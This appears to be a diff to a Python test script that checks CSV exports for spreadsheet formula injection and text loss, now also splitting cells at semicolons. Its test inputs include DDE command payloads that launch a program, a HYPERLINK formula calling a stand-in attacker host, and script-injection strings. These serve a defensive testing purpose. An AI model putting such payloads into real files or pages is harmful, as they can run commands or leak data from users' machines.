@@ -26,6 +26,7 @@ HIDDEN = [chr(c) for c in range(0x110000) if unicodedata.category(chr(c)) in ("C
 IN_TEXTS = [c for c in HIDDEN if ord(c) >= 0x80]
 TEXTS = [
     "=HYPERLINK('http://evil.example/?x','pay')", "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(1+1)*cmd", " =1+1", "\t=1+1", "\uff1d1+1",
+    "a;=cmd|' /C calc'!A0", "b; +1+1;-2+3 x",
     "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- c -->", "<a href='x'>y</a>", "&lt;b&gt; &#64; &amp;",
     "@everyone", "hello @octocat and @org/team", "me@example.com", "mailto:me@example.com", "#1", "owner/repo#12", "!3 $4 %5 &6 ~7",
     "[x](javascript:alert(1))", "![x](http://evil.example/p.png)", "[x]: http://evil.example", "[^1]", "[ ] task",
@@ -133,14 +134,16 @@ def read_csv(what, output):
     rows = list(csv.reader(io.StringIO(output, newline=""), strict=True))
     if len({len(row) for row in rows}) > 1:
         fail(f"{what}: rows of different length")
-    for cell in (cell for row in rows for cell in row):
+    # Where a comma stands in decimal numbers, a spreadsheet parts the cells of such a file at semicolons.
+    parted = csv.reader(io.StringIO(output, newline=""), delimiter=";")
+    for cell in (cell for row in [*rows, *parted] for cell in row):
         begin = cell.lstrip()
         if len(begin) > 1 and begin[0] in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" and not is_number(cell):
             fail(f"{what}: a formula", cell)
-    cells = {cell for row in rows for cell in row}
+    cells = {cell.replace("'", "") for row in rows for cell in row}
     for text in TEXTS:
         shown = seen(text)
-        if has_all(what) and not {shown, "'" + shown} & cells and not re.search(r"##\w*\[", text):
+        if has_all(what) and shown.replace("'", "") not in cells and not re.search(r"##\w*\[", text):
             fail(f"{what}: a text is lost", text)
 
 
